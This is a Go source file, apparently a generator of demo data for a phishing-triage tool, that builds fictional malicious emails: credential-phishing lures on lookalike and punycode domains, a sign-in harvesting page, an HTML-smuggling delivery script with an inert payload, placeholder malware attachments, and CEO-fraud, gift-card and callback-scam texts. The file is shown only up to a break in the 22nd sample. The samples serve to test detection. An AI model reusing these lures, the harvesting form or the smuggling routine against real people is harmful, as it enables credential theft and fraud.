package main

import (
	"fmt"
	"strings"
)

const (
	megan   = "megan.bowen@contoso.example"
	adele   = "adele.vance@contoso.example"
	alex    = "alex.wilber@contoso.example"
	diego   = "diego.siciliani@contoso.example"
	lynne   = "lynne.robbins@contoso.example"
	isaiah  = "isaiah.langer@contoso.example"
	joni    = "joni.sherman@contoso.example"
	grady   = "grady.archie@contoso.example"
	leegu   = "lee.gu@contoso.example"
	pradeep = "pradeep.gupta@contoso.example"
	patti   = "patti.fernandez@contoso.example"
	johanna = "johanna.lorenz@contoso.example"
	miriam  = "miriam.graham@contoso.example"
	nestor  = "nestor.wilke@contoso.example"
	lidia   = "lidia.holloway@contoso.example"
	finance = "finance@contoso.example"
	ap      = "accounts.payable@contoso.example"
	payroll = "payroll@contoso.example"
	helpdsk = "it-helpdesk@contoso.example"
)

func rc(xs ...string) []string { return xs }

const credHarvestPage = `<!DOCTYPE html>
<!-- qtriage demo data: fictional credential-harvesting page. The form posts to a
     host under .invalid, which cannot exist. -->
<html>
<head>
<meta charset="utf-8">
<title>Voice Message - Sign in to listen</title>
<style>
body{background:#f2f2f2;font-family:Segoe UI,Arial,sans-serif}
.box{width:340px;margin:80px auto;background:#fff;padding:36px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
input{width:100%;padding:8px;margin:6px 0;border:0;border-bottom:1px solid #666}
button{background:#0067b8;color:#fff;border:0;padding:8px 28px;float:right}
</style>
</head>
<body>
<div class="box">
<div style="font-weight:600;color:#737373">Microsoft</div>
<h2>Sign in to play your message</h2>
<p>Voice message from +1 (425) 555-0118, length 00:48</p>
<form method="POST" action="https://vm-playback-auth.invalid/owa/collect.php" autocomplete="off">
<input type="email" name="loginfmt" value="adele.vance@contoso.example" readonly>
<input type="password" name="passwd" placeholder="Password" required>
<input type="hidden" name="src" value="vm0312">
<button type="submit">Sign in</button>
</form>
</div>
</body>
</html>
`

func smugglingPage() string {
	payload := strings.Repeat("qtriage demo placeholder: this text stands in for a smuggled file and is harmless. ", 24)
	enc := b64lines([]byte(payload))
	enc = strings.ReplaceAll(enc, "\r\n", "")
	var js strings.Builder
	for len(enc) > 0 {
		n := min(96, len(enc))
		js.WriteString("    \"" + enc[:n] + "\" +\n")
		enc = enc[n:]
	}
	return `<!DOCTYPE html>
<!-- qtriage demo data: fictional HTML-smuggling sample. The embedded blob is
     plain harmless text, and deliver() is never called, so opening this file
     does nothing. -->
<html>
<head><meta charset="utf-8"><title>Remittance Advice</title></head>
<body style="font-family:Arial,sans-serif">
<p>Loading your remittance document, please wait...</p>
<script>
var part = (
` + js.String() + `    "");
function deliver() {
  var raw = atob(part);
  var bytes = new Uint8Array(raw.length);
  for (var i = 0; i < raw.length; i++) { bytes[i] = raw.charCodeAt(i); }
  var blob = new Blob([bytes], {type: "application/octet-stream"});
  var name = String.fromCharCode(82,101,109,105,116,116,97,110,99,101) + "_0311.iso";
  if (window.navigator && window.navigator.msSaveOrOpenBlob) {
    window.navigator.msSaveOrOpenBlob(blob, name);
  } else {
    var a = document.createElement("a");
    a.href = URL.createObjectURL(blob);
    a.download = name;
  }
}
</script>
</body>
</html>
`
}

func malicious() []*M {
	btc := bitcoinAddr("qtriage demo extortion wallet 2026")
	return []*M{
		{
			File: "mal-01-m365-password-expiry.eml", Verdict: "malicious", Category: "credential_phishing", QType: "HighConfPhish", Policy: "HostedContentFilterPolicy",
			Rcpt:     rc(megan, alex, diego),
			Desc:     "Microsoft 365 password-expiry lure from lookalike micros0ft-support.example (digit swap), link to a credential page with 'password' and the victim's address in the URL",
			FromName: "Microsoft 365 Admin", FromAddr: "no-reply@micros0ft-support.example", Subject: "Action required: your password expires today",
			Date: d(3, 2, 7, 41, "UTC"), IP: "203.0.113.41", Country: "NL", PTR: "InfoNoRecords",
			SPF: "pass", DKIM: "none", DMARC: "none", CompAuth: "softpass reason=201", SCL: 9, BCL: 0, CAT: "HPHSH",
			Text: "Microsoft 365\n\nThe password for megan.bowen@contoso.example expires today.\nTo keep using your current password, confirm it below within 24 hours.\n\nKeep current password: https://micros0ft-support.example/owa/auth/password-keep.php?u=megan.bowen%40contoso.example\n\nIf you do nothing, your mailbox will be suspended and unread mail deleted.\nMicrosoft 365 Team",
			HTML: html(`<table width="560" cellpadding="0" cellspacing="0" style="border:1px solid #ddd">
<tr><td style="background:#0078d4;color:#fff;padding:14px 20px;font-size:18px">Microsoft 365</td></tr>
<tr><td style="padding:20px">
<p>The password for <b>megan.bowen@contoso.example</b> expires <b>today</b>.</p>
<p>To keep using your current password, confirm it below within 24 hours.</p>
<p><a href="https://micros0ft-support.example/owa/auth/password-keep.php?u=megan.bowen%40contoso.example" style="background:#0078d4;color:#fff;padding:10px 22px;text-decoration:none">Keep current password</a></p>
<p style="color:#a80000">If you do nothing, your mailbox will be suspended and unread mail deleted.</p>
<p style="color:#777;font-size:11px">Microsoft Corporation, One Microsoft Way, Redmond, WA</p>
</td></tr></table>`),
		},
		{
			File: "mal-02-shared-document-compromised-vendor.eml", Verdict: "malicious", Category: "credential_phishing", QType: "Phish", Policy: "HostedContentFilterPolicy",
			Rcpt:     rc(joni, grady),
			Desc:     "Shared-document lure from a compromised vendor mailbox (SPF/DKIM/DMARC all pass for bellows-hvac.example) linking to a fake OneDrive login on a free web host",
			FromName: "Rob Young", FromAddr: "rob.young@bellows-hvac.example", Subject: "Rob Young shared \"Contoso - Q2 Service Agreement.pdf\" with you",
			Date: d(3, 3, 10, 5, "EST"), IP: "198.51.100.14", Helo: "mail.bellows-hvac.example",
			SPF: "pass", DKIM: "pass", DMARC: "pass", SCL: 5, CAT: "PHSH",
			Extra: [][2]string{{"X-Mailer", "Microsoft Outlook 16.0"}},
			Text:  "Rob Young shared a file with you\n\nContoso - Q2 Service Agreement.pdf\nOpen: https://q2-agreement-5f1c.freesite-host.example/onedrive/login.html\n\nThis link will work for anyone at contoso.example.",
			HTML: html(`<p>Rob Young shared a file with you</p>
<table style="border:1px solid #e1e1e1;padding:12px"><tr><td>
<img src="https://q2-agreement-5f1c.freesite-host.example/img/pdf.png" width="32" height="32" alt="PDF">
<b>Contoso - Q2 Service Agreement.pdf</b><br>
<span style="color:#666">Please review and sign before Friday.</span>
</td></tr></table>
<p><a href="https://q2-agreement-5f1c.freesite-host.example/onedrive/login.html" style="background:#0078d4;color:#fff;padding:8px 20px;text-decoration:none">Open</a></p>
<p style="font-size:11px;color:#777">This link will work for anyone at contoso.example. Microsoft respects your privacy.</p>
<p>Rob Young<br>Service Manager, Bellows HVAC<br>+1 (312) 555-0134</p>`),
		},
		{
			File: "mal-03-voicemail-html-attachment.eml", Verdict: "malicious", Category: "credential_phishing", QType: "HighConfPhish", Policy: "HostedContentFilterPolicy",
			Rcpt:     rc(adele),
			Desc:     "Voicemail notification with a base64 .htm attachment holding a Microsoft sign-in form (prefilled address) that POSTs to vm-playback-auth.invalid",
			FromName: "Voice Mail Service", FromAddr: "voicemail@vm-notify.example", Subject: "New voice message from +1 (425) 555-0118 - 00:48",
			Date: d(3, 4, 14, 22, "PST"), IP: "203.0.113.88", Country: "US", PTR: "InfoNoRecords",
			SPF: "softfail", DKIM: "none", DMARC: "none", SCL: 9, CAT: "HPHSH",
			Text: "You received a new voice message.\n\nFrom: +1 (425) 555-0118\nLength: 00:48\nReceived: 4 March 2026 14:20\n\nOpen the attached audio file to listen.",
			HTML: html(`<p><b>You received a new voice message.</b></p>
<table><tr><td>From:</td><td>+1 (425) 555-0118</td></tr><tr><td>Length:</td><td>00:48</td></tr><tr><td>Received:</td><td>4 March 2026 14:20</td></tr></table>
<p>Open the attached audio file to listen.</p>`),
			Atts: []Att{{Name: "VM_Message_0304_0048.htm", CType: "text/html", Data: []byte(credHarvestPage)}},
		},
		{
			File: "mal-04-esign-lookalike-open-redirect.eml", Verdict: "malicious", Category: "credential_phishing", QType: "Phish", Policy: "AntiPhishPolicy",
			Rcpt:     rc(patti, leegu),
			Desc:     "DocuSign-style e-signature lure from lookalike d0cusign-mail.example; the button goes through an open redirect (redirect=) on a tracker to d0cusign-review.test",
			FromName: "DocuSign via Contoso Legal", FromAddr: "dse-notification@d0cusign-mail.example", Subject: "Contoso Legal sent you a document to review and sign: NDA_2026_Final.pdf",
			Date: d(3, 5, 9, 3, "CET"), IP: "198.51.100.201", Country: "DE",
			SPF: "pass", DKIM: "pass", DMARC: "pass", SCL: 6, CAT: "PHSH",
			Text: "Contoso Legal sent you a document to review and sign.\n\nREVIEW DOCUMENT: https://track.mailer-stats.example/click?redirect=https%3A%2F%2Fd0cusign-review.test%2Fenvelope%2Fsign%3Fid%3D7731-A2\n\nDo not share this email. Powered by DocuSign.",
			HTML: html(`<div style="background:#1e1e1e;color:#fff;padding:16px;font-size:20px">DocuSign</div>
<div style="background:#214e9f;color:#fff;padding:28px;text-align:center">
<p>Contoso Legal sent you a document to review and sign.</p>
<p><a href="https://track.mailer-stats.example/click?redirect=https%3A%2F%2Fd0cusign-review.test%2Fenvelope%2Fsign%3Fid%3D7731-A2" style="background:#ffc820;color:#000;padding:10px 24px;text-decoration:none;font-weight:bold">REVIEW DOCUMENT</a></p>
</div>
<p><b>NDA_2026_Final.pdf</b> - 2 pages</p>
<p style="font-size:11px;color:#666">Do not share this email. It contains a secure link to DocuSign.</p>`),
		},
		{
			File: "mal-05-parcel-customs-fee.eml", Verdict: "malicious", Category: "credential_phishing", QType: "Phish", Policy: "HostedContentFilterPolicy",
			Rcpt:     rc(johanna),
			Desc:     "DHL-branded parcel 'customs fee' lure from dhl-parcel-redelivery.test (not DHL), SPF fail, asks for card details on a pay page",
			FromName: "DHL Express", FromAddr: "noreply@dhl-parcel-redelivery.test", Subject: "Your parcel is on hold: customs fee of EUR 1.99 unpaid",
			Date: d(3, 6, 6, 58, "CET"), IP: "203.0.113.150", Country: "LT", PTR: "InfoDomainNonexistent",
			SPF: "fail", DKIM: "none", DMARC: "none", SCL: 8, CAT: "PHSH",
			Text: "DHL Express\n\nShipment 4471 8823 09 is held at the customs depot.\nA customs fee of EUR 1.99 has not been paid. Pay within 48 hours or the parcel is returned to the sender.\n\nPay now: https://dhl-parcel-redelivery.test/track/pay?id=4471882309\n",
			HTML: html(`<div style="background:#ffcc00;padding:12px;font-weight:bold;color:#d40511;font-size:20px">DHL EXPRESS</div>
<p>Shipment <b>4471 8823 09</b> is held at the customs depot.</p>
<p>A customs fee of <b>EUR 1.99</b> has not been paid. Pay within <b>48 hours</b> or the parcel is returned to the sender.</p>
<p><a href="https://dhl-parcel-redelivery.test/track/pay?id=4471882309" style="background:#d40511;color:#fff;padding:10px 20px;text-decoration:none">Pay now</a></p>
<p style="font-size:10px;color:#888">Deutsche Post DHL Group - this is an automated message.</p>`),
		},
		{
			File: "mal-06-bank-homoglyph-punycode.eml", Verdict: "malicious", Category: "credential_phishing", QType: "HighConfPhish", Policy: "AntiPhishPolicy",
			Rcpt:     rc(lynne),
			Desc:     "Fictional Woodgrove Bank impersonation from xn--wodgrove-nbh.example (w + Cyrillic o + odgrove, a homoglyph of woodgrove.example), 'account locked' lure to a verify page on the same punycode host",
			FromName: "Woodgrove Bank", FromAddr: "security@xn--wodgrove-nbh.example", Subject: "Unusual sign-in: your online banking is locked",
			Date: d(3, 7, 22, 16, "UTC"), IP: "203.0.113.9", Country: "RU", PTR: "InfoNoRecords",
			SPF: "pass", DKIM: "none", DMARC: "none", CompAuth: "fail reason=001", SCL: 9, CAT: "HPHSH",
			Text: "Woodgrove Bank\n\nWe detected an unusual sign-in to your online banking on 7 March 2026 from an unrecognised device.\nFor your protection we have temporarily locked your account.\n\nVerify your identity: https://secure.xn--wodgrove-nbh.example/online-banking/verify?ref=WB-88120\n\nIf you do not verify within 12 hours, your cards will be blocked.",
			HTML: html(`<div style="background:#0b3d2e;color:#fff;padding:14px;font-size:18px">Woodgrove Bank</div>
<p>We detected an unusual sign-in to your online banking on 7 March 2026 from an unrecognised device.</p>
<p>For your protection we have temporarily <b>locked your account</b>.</p>
<p><a href="https://secure.xn--wodgrove-nbh.example/online-banking/verify?ref=WB-88120">Verify your identity</a></p>
<p>If you do not verify within 12 hours, your cards will be blocked.</p>`),
		},
		{
			File: "mal-07-paypal-punycode-payment.eml", Verdict: "malicious", Category: "credential_phishing", QType: "Phish", Policy: "AntiPhishPolicy",
			Rcpt:     rc(miriam),
			Desc:     "PayPal 'payment sent' impersonation from xn--pypal-billing-w1k.test (p + Cyrillic a + ypal-billing), cancel link to a login page on the same lookalike host",
			FromName: "PayPal", FromAddr: "service@xn--pypal-billing-w1k.test", Subject: "Receipt for your payment of $749.00 USD to Crypto Exchange Ltd",
			Date: d(3, 8, 17, 30, "PST"), IP: "198.51.100.173", Country: "US",
			SPF: "none", DKIM: "none", DMARC: "none", SCL: 8, CAT: "PHSH",
			Text: "You sent a payment of $749.00 USD to Crypto Exchange Ltd.\nTransaction ID: 8TK44120WX553182A\n\nDidn't authorize this payment? Cancel it here: https://xn--pypal-billing-w1k.test/signin/cancel?tx=8TK44120WX553182A\n",
			HTML: html(`<p style="font-size:22px;color:#003087;font-weight:bold">PayPal</p>
<p>You sent a payment of <b>$749.00 USD</b> to Crypto Exchange Ltd.</p>
<p>Transaction ID: 8TK44120WX553182A</p>
<p>Didn't authorize this payment? <a href="https://xn--pypal-billing-w1k.test/signin/cancel?tx=8TK44120WX553182A">Cancel the payment</a></p>`),
		},
		{
			File: "mal-08-teams-homoglyph-hidden-text.eml", Verdict: "malicious", Category: "credential_phishing", QType: "Phish", Policy: "AntiPhishPolicy",
			Rcpt:     rc(isaiah, pradeep),
			Desc:     "Microsoft Teams 'unread messages' lure: display name with Cyrillic o, sender xn--micrsoft-qbh.example, zero-width characters in 'Microsoft' and hidden white zero-size filler text, link to teams-chat-view.test login",
			FromName: "Micr\u043esoft Teams", FromAddr: "notify@xn--micrsoft-qbh.example", Subject: "You have 3 unread messages in Teams",
			Date: d(3, 9, 11, 47, "UTC"), IP: "203.0.113.61", Country: "SG",
			SPF: "neutral", DKIM: "none", DMARC: "none", SCL: 6, CAT: "PHSH",
			Text: "Mi\u200bcro\u200bsoft Teams\n\nYou have 3 unread messages from Nestor Wilke.\nView messages: https://teams-chat-view.test/l/chat/login?tenant=contoso\n",
			HTML: html(`<p style="font-size:18px">Mi&#8203;cro&#8203;soft Teams</p>
<div style="font-size:0;color:#ffffff;max-height:0;overflow:hidden">Thanks for the lunch yesterday. The quarterly numbers look fine and the team outing is confirmed for Friday afternoon.</div>
<p>You have <b>3 unread messages</b> from Nestor Wilke.</p>
<p><span style="color:#ffffff;font-size:1px">newsletter update weekly digest</span></p>
<p><a href="https://teams-chat-view.test/l/chat/login?tenant=contoso" style="background:#5b5fc7;color:#fff;padding:8px 18px;text-decoration:none">View messages</a></p>`),
		},
		{
			File: "mal-09-display-text-link-mismatch.eml", Verdict: "malicious", Category: "credential_phishing", QType: "Phish", Policy: "AntiPhishPolicy",
			Rcpt:     rc(megan, isaiah, pradeep, miriam),
			Desc:     "'Contoso IT Service Desk' from lookalike contoso-it-support.example; link text shows https://myaccount.contoso.example but the href is the IP literal 198.51.100.23",
			FromName: "Contoso IT Service Desk", FromAddr: "servicedesk@contoso-it-support.example", Subject: "[Contoso IT] Mandatory MFA re-registration",
			Date: d(3, 10, 8, 2, "EDT"), IP: "198.51.100.23", Country: "US",
			SPF: "pass", DKIM: "none", DMARC: "none", CompAuth: "softpass reason=201", SCL: 6, CAT: "DIMP",
			Text: "Dear colleague,\n\nAs part of our security upgrade all staff must re-register multi-factor authentication by Friday.\nGo to https://myaccount.contoso.example/security and sign in with your Contoso account.\n\nContoso IT Service Desk",
			HTML: html(`<p>Dear colleague,</p>
<p>As part of our security upgrade all staff must re-register multi-factor authentication by <b>Friday</b>.</p>
<p>Go to <a href="http://198.51.100.23/contoso/myaccount/login.php">https://myaccount.contoso.example/security</a> and sign in with your Contoso account.</p>
<p>Contoso IT Service Desk<br>ext. 4400</p>`),
		},
		{
			File: "mal-10-html-smuggling-remittance.eml", Verdict: "malicious", Category: "malware", QType: "Malware", Policy: "AntiMalwarePolicy",
			Rcpt:     rc(finance),
			Desc:     "Remittance advice with an .html attachment that smuggles a file: base64 blob, atob, Blob, msSaveOrOpenBlob, URL.createObjectURL, fromCharCode (inert demo script)",
			FromName: "Accounts Receivable | Northwind Traders", FromAddr: "ar@northwind-remit.example", Subject: "Remittance advice 0311 - payment sent",
			Date: d(3, 11, 13, 19, "UTC"), IP: "203.0.113.77", Country: "BR",
			SPF: "softfail", DKIM: "none", DMARC: "none", SCL: 5, CAT: "MALW", SFV: "NSPM",
			Text: "Hello,\n\nPlease find attached the remittance advice for the payment released today.\n\nKind regards,\nAccounts Receivable",
			Atts: []Att{{Name: "Remittance_Advice_0311.html", CType: "text/html", Data: []byte(smugglingPage())}},
		},
		{
			File: "mal-11-zip-double-extension-js.eml", Verdict: "malicious", Category: "malware", QType: "Malware", Policy: "AntiMalwarePolicy",
			Rcpt:     rc(finance, ap),
			Desc:     "Invoice lure with Invoice_INV-88213.zip containing invoice.pdf.js (double extension, script file; the demo payload is a comment)",
			FromName: "Tailwind Billing", FromAddr: "billing@tailwind-invoices.example", Subject: "Overdue invoice INV-88213",
			Date: d(3, 12, 9, 44, "UTC"), IP: "203.0.113.102", Country: "VN", PTR: "InfoNoRecords",
			SPF: "fail", DKIM: "none", DMARC: "none", SCL: 5, CAT: "MALW", SFV: "NSPM",
			Text: "Dear customer,\n\nInvoice INV-88213 is now 30 days overdue. The invoice is attached in a compressed file.\nPlease settle today to avoid late fees.\n\nTailwind Billing",
			Atts: []Att{{Name: "Invoice_INV-88213.zip", CType: "application/x-zip-compressed", Data: mkzip(zf{"invoice.pdf.js", []byte("// qtriage demo data: fictional malware placeholder.\n// This file contains no code and does nothing.\n")})}},
		},
		{
			File: "mal-12-docm-purchase-order.eml", Verdict: "malicious", Category: "malware", QType: "Malware", Policy: "AntiMalwarePolicy",
			Rcpt:     rc(grady),
			Desc:     "Purchase order as a macro-enabled Word file (.docm with word/vbaProject.bin; the demo VBA part is placeholder text) from first-seen alpineskihouse-orders.example",
			FromName: "Procurement - Alpine Ski House", FromAddr: "procurement@alpineskihouse-orders.example", Subject: "PO-4471 confirmation - enable editing to view",
			Date: d(3, 13, 15, 8, "CET"), IP: "198.51.100.90", Country: "AT",
			SPF: "pass", DKIM: "none", DMARC: "none", CompAuth: "softpass reason=201", SCL: 5, CAT: "MALW", SFV: "NSPM",
			Text: "Hello,\n\nAttached is purchase order PO-4471. The document is protected: click Enable Editing and then Enable Content to view it.\n\nRegards,\nProcurement",
			Atts: []Att{{Name: "Purchase_Order_PO-4471.docm", CType: "application/vnd.ms-word.document.macroEnabled.12", Data: mkzip(
				zf{"[Content_Types].xml", []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`)},
				zf{"_rels/.rels", []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`)},
				zf{"word/document.xml", []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>This document is protected. Enable editing and enable content to view it.</w:t></w:r></w:p></w:body></w:document>`)},
				zf{"word/vbaProject.bin", []byte("qtriage demo data: placeholder for a VBA project. Not OLE, no macro code.\n")},
			)}},
		},
		{
			File: "mal-13-iso-shipping-documents.eml", Verdict: "malicious", Category: "malware", QType: "Malware", Policy: "AntiMalwarePolicy",
			Rcpt:     rc(diego),
			Desc:     "Shipping-documents lure with a disk-image attachment Shipping_Documents_8812.iso (tiny placeholder bytes) from first-seen blueyonder-freight.example",
			FromName: "Blue Yonder Freight", FromAddr: "docs@blueyonder-freight.example", Subject: "Shipping documents BL 8812 - arrival notice",
			Date: d(3, 14, 4, 12, "SGT"), IP: "203.0.113.140", Country: "MY",
			SPF: "none", DKIM: "none", DMARC: "none", SCL: 5, CAT: "MALW", SFV: "NSPM",
			Text: "Dear consignee,\n\nYour shipment BL 8812 arrives on 18 March. The bill of lading and commercial invoice are attached. Open the attached file to view the documents.\n\nBlue Yonder Freight - Documentation",
			Atts: []Att{{Name: "Shipping_Documents_8812.iso", CType: "application/octet-stream", Data: []byte("qtriage demo data: placeholder bytes standing in for a disk image. Not a real ISO 9660 image.\n")}},
		},
		{
			File: "mal-14-lnk-spoofed-scanner.eml", Verdict: "malicious", Category: "malware", QType: "Malware", Policy: "AntiMalwarePolicy",
			Rcpt:     rc(alex),
			Desc:     "Spoof of the tenant's own scanner@contoso.example from an outside IP (SPF fail, DMARC fail action=quarantine) carrying a Windows shortcut Scan_2026-03-11_0932.lnk (inert demo bytes)",
			FromName: "Contoso Scanner", FromAddr: "scanner@contoso.example", Subject: "Scanned document from MFP-3F-East",
			Date: d(3, 11, 9, 32, "UTC"), IP: "203.0.113.199", Helo: "mfp-relay.scanhub.example", Country: "UA", PTR: "InfoNoRecords",
			SPF: "fail", DKIM: "none", DMARC: "fail", DMARCAction: "quarantine", SCL: 5, CAT: "MALW", SFV: "NSPM",
			Text: "Scanned from MFP-3F-East\nPages: 3\nDocument: Scan_2026-03-11_0932\n\nOpen the attachment to view the scan.",
			Atts: []Att{{Name: "Scan_2026-03-11_0932.lnk", CType: "application/octet-stream", Data: mkLNK()}},
		},
		{
			File: "mal-15-encrypted-zip-password-in-body.eml", Verdict: "malicious", Category: "malware", QType: "Malware", Policy: "AntiMalwarePolicy",
			Rcpt:     rc(finance),
			Desc:     "Password-protected archive Payment_Details_March.zip (entry flagged encrypted, unscannable) with the password 7731 given in the body",
			FromName: "Jessica Hart", FromAddr: "jhart@margie-travel-billing.example", Subject: "RE: payment details March (password protected)",
			Date: d(3, 15, 10, 51, "UTC"), IP: "198.51.100.240", Country: "TR",
			SPF: "softfail", DKIM: "none", DMARC: "none", SCL: 5, CAT: "MALW", SFV: "NSPM",
			Text: "Hi,\n\nAs requested the payment details are attached. For security the file is password protected.\n\nPassword: 7731\n\nBest regards,\nJessica Hart",
			Atts: []Att{{Name: "Payment_Details_March.zip", CType: "application/zip", Data: mkEncryptedZip("Payment_Details_March.pdf.exe", 600)}},
		},
		{
			File: "mal-16-bec-ceo-wire-transfer.eml", Verdict: "malicious", Category: "bec", QType: "Phish", Policy: "AntiPhishPolicy",
			Rcpt:     rc(finance, patti),
			Desc:     "CEO fraud: display name 'Lidia Holloway' (Contoso CEO) from free-mail quickmail.example, Reply-To another free-mail address, urgent confidential wire transfer, no links",
			FromName: "Lidia Holloway", FromAddr: "lidia.holloway.ceo@quickmail.example", ReplyTo: "Lidia Holloway <lidia.holloway.office@securemail-box.example>",
			Subject: "Confidential - wire needed today", Date: d(3, 16, 16, 4, "UTC"), IP: "198.51.100.33", Helo: "smtp-out.quickmail.example", Country: "GB",
			SPF: "pass", DKIM: "pass", DMARC: "pass", SCL: 1, CAT: "UIMP", SFV: "NSPM",
			Text: "Patti,\n\nAre you at your desk? I need you to handle a confidential wire transfer today for an acquisition we are closing. Do not discuss it with anyone else until the announcement.\n\nAmount: USD 48,750.00\nI will send the beneficiary details as soon as you confirm.\n\nI'm in meetings all afternoon, email only.\n\nLidia\n\nSent from my iPhone",
		},
		{
			File: "mal-17-bec-gift-cards.eml", Verdict: "malicious", Category: "bec", QType: "Phish", Policy: "AntiPhishPolicy",
			Rcpt:     rc(megan, johanna, leegu),
			Desc:     "Gift-card scam impersonating manager Nestor Wilke from free-mail quickmail.example: buy 8 x $200 gift cards and send photos of the codes",
			FromName: "Nestor Wilke", FromAddr: "nestor.wilke.contoso@quickmail.example", Subject: "Quick favor",
			Date: d(3, 17, 8, 26, "UTC"), IP: "198.51.100.34", Helo: "smtp-out.quickmail.example", Country: "GB",
			SPF: "pass", DKIM: "pass", DMARC: "pass", SCL: 1, CAT: "UIMP", SFV: "NSPM",
			Text: "Hi,\n\nAre you available? I need a quick favor. I am planning to surprise some of our clients with gift cards today but I'm tied up in a conference.\n\nCan you get 8 Apple gift cards at $200 each from a store nearby? Scratch the back, take a photo of each code and email them to me. I will reimburse you this evening.\n\nKeep this between us for now.\n\nNestor",
		},
		{
			File: "mal-18-bec-payroll-diversion.eml", Verdict: "malicious", Category: "bec", QType: "Phish", Policy: "AntiPhishPolicy",
			Rcpt:     rc(payroll),
			Desc:     "Payroll diversion: 'Megan Bowen' from free-mail megan.bowen.mobile@quickmail.example asks payroll to change her direct-deposit account before the next run",
			FromName: "Megan Bowen", FromAddr: "megan.bowen.mobile@quickmail.example", Subject: "Direct deposit update",
			Date: d(3, 18, 19, 12, "UTC"), IP: "198.51.100.35", Helo: "smtp-out.quickmail.example", Country: "GB",
			SPF: "pass", DKIM: "pass", DMARC: "pass", SCL: 1, CAT: "UIMP", SFV: "NSPM",
			Text: "Hello Payroll,\n\nI changed banks and would like my salary paid into my new account from the next payroll. Can you update my direct deposit information? What details do you need from me?\n\nI'm writing from my personal email because I'm travelling.\n\nThanks,\nMegan Bowen",
		},
		{
			File: "mal-19-bec-vendor-bank-change-lookalike.eml", Verdict: "malicious", Category: "bec", QType: "Phish", Policy: "AntiPhishPolicy",
			Rcpt:     rc(ap, finance),
			Desc:     "Vendor bank-detail change from fabrikarn.example ('rn' for 'm', lookalike of the known partner fabrikam.example); authentication passes for the lookalike; PDF letter with the new account",
			FromName: "Fabrikam Accounts Receivable", FromAddr: "ar@fabrikarn.example", Subject: "Updated remittance details - Fabrikam, Inc.",
			Date: d(3, 19, 11, 2, "EST"), IP: "203.0.113.55", Country: "US",
			SPF: "pass", DKIM: "pass", DMARC: "pass", SCL: 5, CAT: "DIMP",
			Text: "Dear Accounts Payable,\n\nPlease note that Fabrikam has changed banks following an audit. From today, all payments for open invoices must go to the account in the attached letter. Payments to the previous account will be returned.\n\nPlease confirm once your records are updated.\n\nBest regards,\nAnna Lindqvist\nAccounts Receivable, Fabrikam, Inc.",
			Atts: []Att{{Name: "Fabrikam_bank_change_letter.pdf", CType: "application/pdf", Data: mkPDF("Bank change notice", []string{
				"Fabrikam, Inc. - Notice of change of bank details", "", "Effective immediately, remit all payments to:", "Bank: First Harbor Bank (fictional)", "Account name: Fabrikam Inc Operations", "IBAN: XX00 0000 0000 0000 0000 00 (demo placeholder)", "SWIFT: DEMOXX00", "", "Please do not use the previous account."}, "")}},
		},
		{
			File: "mal-20-callback-antivirus-renewal.eml", Verdict: "malicious", Category: "callback_phishing", QType: "Phish", Policy: "HostedContentFilterPolicy",
			Rcpt:     rc(isaiah),
			Desc:     "Callback phishing: fake Norton-style auto-renewal of $499.99 with a phone number (+1 888 555 0147) to call to cancel, no links, sent from free-mail",
			FromName: "Norton Billing Department", FromAddr: "billing.dept.4471@quickmail.example", Subject: "Order Confirmation #NLK-552190 - Auto Renewal Successful",
			Date: d(3, 20, 12, 40, "UTC"), IP: "198.51.100.36", Helo: "smtp-out.quickmail.example", Country: "IN",
			SPF: "pass", DKIM: "pass", DMARC: "pass", SCL: 6, CAT: "PHSH",
			Text: "Dear Customer,\n\nThank you for renewing your Norton 360 Total Protection subscription.\n\nOrder number: NLK-552190\nProduct: Norton 360 Total Protection (5 devices, 3 years)\nAmount charged: $499.99\nPayment method: Auto-debit\n\nThe amount will appear on your statement within 24 hours. If you did not authorize this renewal or want a refund, call our billing desk immediately at +1 (888) 555-0147.\n\nBilling Department",
		},
		{
			File: "mal-21-callback-pdf-invoice.eml", Verdict: "malicious", Category: "callback_phishing", QType: "Phish", Policy: "HostedContentFilterPolicy",
			Rcpt:     rc(joni, adele),
			Desc:     "Callback phishing with a PDF lure: PayPal-branded 'invoice' PDF saying $899.00 was charged and to call +1 (877) 555-0163 to dispute; sender paypa1-billing.test",
			FromName: "PayPal Billing", FromAddr: "invoice@paypa1-billing.test", Subject: "Your invoice INV-7714 has been paid",
			Date: d(3, 21, 7, 55, "UTC"), IP: "203.0.113.117", Country: "US",
			SPF: "pass", DKIM: "none", DMARC: "none", CompAuth: "softpass reason=201", SCL: 6, CAT: "PHSH",
			Text: "Hello,\n\nYour invoice INV-7714 is attached. For questions about this charge, see the attached document.\n\nPayPal Billing",
			Atts: []Att{{Name: "Invoice_INV-7714.pdf", CType: "application/pdf", Data: mkPDF("Invoice INV-7714", []string{
				"PayPal - Invoice INV-7714", "", "Item: Bitcoin purchase (BTC 0.0125)", "Amount charged: $899.00 USD", "Date: 21 March 2026", "", "If you did not make this purchase, call PayPal support", "within 24 hours at +1 (877) 555-0163 to cancel and get a refund.", "", "Do not reply to this email."}, "")}},
		},
		{
			File: "mal-22-qr-code-mfa.eml", Verdict: "malicious", Category: "credential_phishing", QType: "HighConfPhish", Policy: "HostedContentFilterPolicy",
			Rcpt:     rc(pradeep, miriam),
			Desc:     "QR-code phishing: inline PNG QR code (decodes to https://mfa-reenroll.c0ntoso-secure.example/q/8KD2, a lookalike of contoso) with almost no text, 'scan to keep MFA'",
			FromName: "Microsoft Authenticator", FromAddr: "security-noreply@mfa-c0ntoso.example", Subject: "MFA token expires today - scan to re-enroll",
			Date: d(3, 22, 6, 31, "UTC"), IP: "203.0.113.203", Country: "ID",
			SPF: "none", DKIM: "none", DMARC: "none", SCL: 9, CAT: "HPHSH",
			Text: "Your Microsoft Authenticator token expires today. Scan the QR code with your phone camera to re-enroll.",
